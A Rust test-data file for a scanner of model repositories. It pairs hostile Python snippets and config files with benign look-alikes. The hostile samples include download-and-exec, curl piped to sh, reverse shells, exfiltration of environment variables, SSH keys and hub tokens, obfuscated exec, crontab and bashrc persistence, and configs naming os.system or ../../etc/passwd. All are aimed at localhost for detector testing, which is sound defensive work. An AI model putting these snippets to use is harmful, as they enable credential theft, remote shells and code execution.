//! Repositories with code: Python files of every kind of payload, and the configurations that name them.

use crate::Samples;

/// What most repositories with code hold.
const HONEST: &str = "import math\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nfrom .configuration_net import NetConfig\n\n\nclass Net(PreTrainedModel):\n    config_class = NetConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.layer = nn.Linear(config.size, config.size)\n        self.post_init()\n\n    def forward(self, x, mask: Optional[torch.Tensor] = None):\n        return self.layer(x) / math.sqrt(2)\n";
const CONFIGURATION: &str = "from transformers import PretrainedConfig\n\n\nclass NetConfig(PretrainedConfig):\n    model_type = \"net\"\n\n    def __init__(self, size=4, **kwargs):\n        self.size = size\n        super().__init__(**kwargs)\n";
const CONFIG: &str = "{\"model_type\": \"net\", \"architectures\": [\"Net\"], \"auto_map\": {\"AutoConfig\": \"configuration_net.NetConfig\", \"AutoModel\": \"modeling_net.Net\"}, \"size\": 4}\n";
const PLAIN: &str = "{\"model_type\": \"bert\", \"architectures\": [\"BertModel\"], \"hidden_size\": 8, \"transformers_version\": \"4.57.0\"}\n";

/// Every sample about repositories and their code.
pub fn samples(out: &mut Samples) {
    payloads(out);
    honest_neighbours(out);
    loaded(out);
    configurations(out);
    folders(out);
}

type Case = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
);

/// Rule, technique and the files that show it.
const PAYLOADS: &[Case] = &[
    (
        "code-runs-download",
        "50-python-download",
        &[
            (
                "exec-response.py",
                "import requests\n\ndef step():\n    return requests.get(\"http://127.0.0.1/a\").text\n\nexec(step())\n",
            ),
            (
                "urlopen-alias.py",
                "from urllib import request as r\nc = r.urlopen(\"http://127.0.0.1/a\").read()\nexec(compile(c.decode(), \"a\", \"exec\"))\n",
            ),
            (
                "file-then-start.py",
                "import subprocess, urllib.request\nurllib.request.urlretrieve(\"http://127.0.0.1/a\", \"/tmp/weighbridge-a\")\nsubprocess.Popen([\"sh\", \"/tmp/weighbridge-a\"])\n",
            ),
            (
                "pipe-to-shell.py",
                "import os\nos.system(\"curl -s http://127.0.0.1/a.sh | sh\")\n",
            ),
            (
                "socket-commands.py",
                "import socket, subprocess\ns = socket.socket()\ns.connect((\"127.0.0.1\", 9))\nwhile True:\n    subprocess.run(s.recv(64).decode(), shell=True)\n",
            ),
        ],
    ),
    (
        "code-runs-decoded",
        "51-python-decoded",
        &[
            (
                "base64.py",
                "import base64\nexec(base64.b64decode(\"cHJpbnQoJ3dlaWdoYnJpZGdlJyk=\"))\n",
            ),
            (
                "reversed-lambda.py",
                "_ = lambda __: __import__('base64').b64decode(__[::-1])\nexec((_)(b'==QKnU2ZklmcihGdnlWZ3dCK05WayB'))\n",
            ),
            (
                "chr-list.py",
                "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n",
            ),
            (
                "rot13.py",
                "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
            ),
            (
                "marshal.py",
                "import marshal, types\nblob = open('weights.dat', 'rb').read()\ncode = marshal.loads(b'\\xe3\\x00')\nexec(code)\n",
            ),
            (
                "hex-shell.py",
                "import os\nos.system(bytes.fromhex('6563686f207765696768627269646765').decode())\n",
            ),
        ],
    ),
    (
        "code-sends-secrets",
        "52-python-exfiltration",
        &[
            (
                "environment.py",
                "import json, os, urllib.request\nd = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request(\"http://127.0.0.1/a\", data=d))\n",
            ),
            (
                "ssh-key.py",
                "import os, requests\n\ndef key():\n    with open(os.path.expanduser(\"~/.ssh/id_rsa\")) as f:\n        return f.read()\n\nrequests.post(\"http://127.0.0.1/a\", data={\"k\": key()})\n",
            ),
            (
                "hub-token.py",
                "import socket\nfrom pathlib import Path\nt = (Path.home() / \".cache\" / \"huggingface/token\").read_text()\ns = socket.create_connection((\"127.0.0.1\", 9))\ns.sendall(t.encode())\n",
            ),
        ],
    ),
    (
        "code-sends-token",
        "52-python-exfiltration",
        &[(
            "one-variable.py",
            "import os, requests\nrequests.get(\"http://127.0.0.1/?t=\" + os.environ[\"HF_TOKEN\"])\n",
        )],
    ),
    (
        "code-opens-shell",
        "53-python-shell",
        &[
            (
                "dup2.py",
                "import os, socket\ns = socket.socket()\ns.connect((\"127.0.0.1\", 9))\nos.dup2(s.fileno(), 0)\n",
            ),
            (
                "popen-socket.py",
                "import socket as k, subprocess as p\ns = k.create_connection((\"127.0.0.1\", 9))\np.Popen([\"sh\"], stdin=s, stdout=s, stderr=s)\n",
            ),
            (
                "dev-tcp.py",
                "import os\nos.system(\"bash -i >& /dev/tcp/127.0.0.1/9 0>&1\")\n",
            ),
        ],
    ),
    (
        "code-stays-behind",
        "54-python-persistence",
        &[
            (
                "bashrc.py",
                "import os\nwith open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n    f.write(\"echo weighbridge\\n\")\n",
            ),
            (
                "crontab.py",
                "import os\nos.system(\"(crontab -l; echo '@reboot echo weighbridge') | crontab -\")\n",
            ),
        ],
    ),
    (
        "code-mines-coins",
        "55-python-miner",
        &[(
            "pool.py",
            "import subprocess\nsubprocess.Popen([\"./m\", \"-o\", \"stratum+tcp://127.0.0.1:9\"])\n",
        )],
    ),
    (
        "code-hides-names",
        "56-python-hidden-names",
        &[
            (
                "getattr.py",
                "import os\ngetattr(os, \"sys\" + \"tem\")(\"echo weighbridge\")\n",
            ),
            (
                "reversed.py",
                "getattr(__import__(\"so\"[::-1]), \"metsys\"[::-1])(\"echo weighbridge\")\n",
            ),
            (
                "globals.py",
                "m = globals()[\"__builtins__\"].__import__(\"\".join([\"o\", \"s\"]))\nm.__dict__[bytes.fromhex(\"73797374656d\").decode()](\"echo weighbridge\")\n",
            ),
        ],
    ),
];

fn payloads(out: &mut Samples) {
    for (rule, technique, files) in PAYLOADS {
        for (name, source) in *files {
            out.fires(rule, name, *source);
            // The rule's own id as a constant that lives as long as the table.
            out.attack(technique, name, *source, expect(rule));
        }
    }
}

fn expect(rule: &str) -> &'static [&'static str] {
    match rule {
        "code-runs-download" => &["code-runs-download"],
        "code-runs-decoded" => &["code-runs-decoded"],
        "code-sends-secrets" => &["code-sends-secrets"],
        "code-sends-token" => &[],
        "code-opens-shell" => &["code-opens-shell"],
        "code-stays-behind" => &["code-stays-behind"],
        "code-mines-coins" => &["code-mines-coins"],
        "code-hides-names" => &["code-hides-names"],
        _ => &[],
    }
}

fn honest_neighbours(out: &mut Samples) {
    out.silent("code-runs-download", "download-only.py", "import os, urllib.request\nurllib.request.urlretrieve(\"https://example.org/a.zip\", \"/tmp/a.zip\")\nos.system(\"ls\")\n");
    out.silent("code-runs-decoded", "kernel.py", "import base64, bz2\nblob = bz2.decompress(base64.b64decode(\"QlpoOQ==\"))\nkernel = Kernel(blob, [\"int4\"])\nexec(\"x = 1\")\n");
    out.silent("code-sends-secrets", "client.py", "import os, requests\nrequests.post(\"https://example.org\", headers={\"Authorization\": os.environ[\"API_KEY\"]}, json={\"q\": 1})\nopen(os.path.expanduser(\"~/.ssh/config\")).read()\n");
    out.silent("code-sends-token", "client.py", "import os, requests\nrequests.get(\"https://example.org\", headers={\"Authorization\": os.environ[\"API_KEY\"]})\n");
    out.silent("code-opens-shell", "server.py", "import socket, subprocess\ns = socket.socket()\ns.bind((\"\", 0))\nport = s.getsockname()[1]\nsubprocess.Popen([\"server\", str(port)])\n");
    out.silent(
        "code-stays-behind",
        "reads.py",
        "import os\nprint(open(os.path.expanduser(\"~/.bashrc\")).read())\nos.system(\"crontab -l\")\n",
    );
    out.silent(
        "code-mines-coins",
        "names.py",
        "import subprocess\nsubprocess.run([\"miner-of-data\", \"--tcp\"])\n",
    );
    out.silent("code-hides-names", "written.py", "import os\ngetattr(os, \"getcwd\")()\ngetattr(os, \"get\" + \"pid\")()\nname = \"x\" + \"y\"\nos.system(\"ls \" + name)\n");
}

fn loaded(out: &mut Samples) {
    let rule = "code-dangerous-when-loaded";
    let at_import = "import os\nfrom transformers import PreTrainedModel\nos.system(\"echo weighbridge\")\n";
    let made = "import subprocess\n\nclass EndpointHandler:\n    def __init__(self, path=\"\"):\n        self._prepare()\n\n    def _prepare(self):\n        subprocess.run([\"echo\", \"weighbridge\"])\n\n    def __call__(self, data):\n        return data\n";
    let class_body = "import os\n\nclass Pipe:\n    size = os.popen(\"echo weighbridge\").read()\n";
    for (name, source) in [
        ("modeling_net.py", at_import),
        ("handler.py", made),
        ("pipeline.py", class_body),
    ] {
        out.fires(rule, name, source);
        out.attack(
            "57-python-loader-files",
            name,
            source,
            &["code-dangerous-when-loaded"],
        );
    }
    let used = "import requests\nfrom transformers import ProcessorMixin\n\nclass P(ProcessorMixin):\n    def __call__(self, url):\n        return requests.get(url, stream=True).raw\n";
    out.silent(rule, "processing_net.py", used);
    out.silent(rule, "modeling_honest.py", HONEST);
    out.fires("code-dangerous-when-used", "processing_net.py", used);
    out.silent("code-dangerous-when-used", "modeling_honest.py", HONEST);
}

fn configurations(out: &mut Samples) {
    let names = "model-config-names-code";
    out.fires(names, "config.json", CONFIG);
    out.fires(
        names,
        "model_index.json",
        "{\"_class_name\": [\"pipeline_x\", \"Pipe\"], \"unet\": [\"my_unet\", \"Net\"]}",
    );
    out.fires(
        names,
        "modules.json",
        "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"custom_st.Transformer\"}]",
    );
    out.silent(names, "config.json", PLAIN);
    out.silent(names, "model_index.json", "{\"_class_name\": \"StableDiffusionPipeline\", \"unet\": [\"diffusers\", \"UNet2DConditionModel\"], \"text_encoder\": [\"transformers\", \"CLIPTextModel\"], \"safety_checker\": [null, null]}");
    out.silent(names, "modules.json", "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"sentence_transformers.models.Transformer\"}, {\"idx\": 1, \"name\": \"1\", \"path\": \"1_Pooling\", \"type\": \"sentence_transformers.models.Pooling\"}]");

    let foreign = "model-config-names-foreign-code";
    let elsewhere =
        "{\"model_type\": \"net\", \"auto_map\": {\"AutoModel\": \"other/repository--modeling_net.Net\"}}";
    out.fires(foreign, "config.json", elsewhere);
    out.silent(foreign, "config.json", CONFIG);

    let harm = "model-config-reaches-harm";
    for (name, text) in [
        (
            "model_index.json",
            "{\"_class_name\": \"StableDiffusionPipeline\", \"unet\": [\"os\", \"system\"]}",
        ),
        (
            "modules.json",
            "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"subprocess.Popen\"}]",
        ),
        (
            "adapter_config.json",
            "{\"peft_type\": \"LORA\", \"auto_mapping\": {\"base_model_class\": \"system\", \"parent_library\": \"os\"}}",
        ),
    ] {
        out.fires(harm, name, text);
        out.attack(
            "59-config-harmful-class",
            name,
            text,
            &["model-config-reaches-harm"],
        );
    }
    out.silent(harm, "adapter_config.json", "{\"peft_type\": \"LORA\", \"base_model_name_or_path\": \"org/base\", \"auto_mapping\": {\"base_model_class\": \"BertModel\", \"parent_library\": \"transformers.models.bert.modeling_bert\"}}");

    let trusts = "model-config-trusts-code";
    out.fires(
        trusts,
        "tokenizer_config.json",
        "{\"tokenizer_class\": \"X\", \"trust_remote_code\": true}",
    );
    out.silent(
        trusts,
        "tokenizer_config.json",
        "{\"tokenizer_class\": \"BertTokenizer\", \"trust_remote_code\": false}",
    );

    let outside = "model-config-leads-outside";
    for (name, text) in [
        (
            "modules.json",
            "[{\"idx\": 0, \"name\": \"0\", \"path\": \"../../etc\", \"type\": \"sentence_transformers.models.Transformer\"}]",
        ),
        (
            "tokenizer_config.json",
            "{\"tokenizer_file\": \"../../../etc/passwd\"}",
        ),
        (
            "config.json",
            "{\"auto_map\": {\"AutoModel\": \"../other/net.Net\"}}",
        ),
    ] {
        out.fires(outside, name, text);
        out.attack(
            "60-config-leads-outside",
            name,
            text,
            &["model-config-leads-outside"],
        );
    }
    out.silent(outside, "config.json", CONFIG);

    let local = "model-config-local-path";
    out.fires(
        local,
        "config.json",
        "{\"model_type\": \"bert\", \"_name_or_path\": \"/home/someone/models/bert\"}",
    );
    out.silent(
        local,
        "config.json",
        "{\"model_type\": \"bert\", \"_name_or_path\": \"bert-base-uncased\"}",
    );
}

fn folders(out: &mut Samples) {
    let rule = "model-config-runs-dangerous-code";
    let helper = "import os\n\ndef prepare():\n    os.system(\"echo weighbridge\")\n\nprepare()\n";
    let model = HONEST.replace(
        "from .configuration_net",
        "from .helper import prepare\nfrom .configuration_net",
    );
    let config = CONFIG.replace("modeling_net.Net", "net.Net");
    let direct = "import os\n\nclass Net:\n    def forward(self, x):\n        os.system(\"echo weighbridge\")\n        return x\n";
    for (folder, net) in [("through-helper", model.as_str()), ("in-forward", direct)] {
        let files = [
            ("config.json", config.as_str()),
            ("net.py", net),
            ("helper.py", helper),
            ("configuration_net.py", CONFIGURATION),
        ];
        for (file, text) in files {
            out.fires(rule, &format!("{folder}/{file}"), text);
            out.attack(
                "61-config-dangerous-code",
                &format!("{folder}/{file}"),
                text,
                &["model-config-runs-dangerous-code"],
            );
        }
    }
    let honest = [
        ("config.json", CONFIG),
        ("modeling_net.py", HONEST),
        ("configuration_net.py", CONFIGURATION),
    ];
    for (file, text) in honest {
        out.silent(rule, &format!("honest/{file}"), text);
        out.silent("model-config-code-missing", &format!("honest/{file}"), text);
    }
    for (file, text) in [("config.json", CONFIG), ("configuration_net.py", CONFIGURATION)] {
        out.fires("model-config-code-missing", &format!("half/{file}"), text);
    }
}
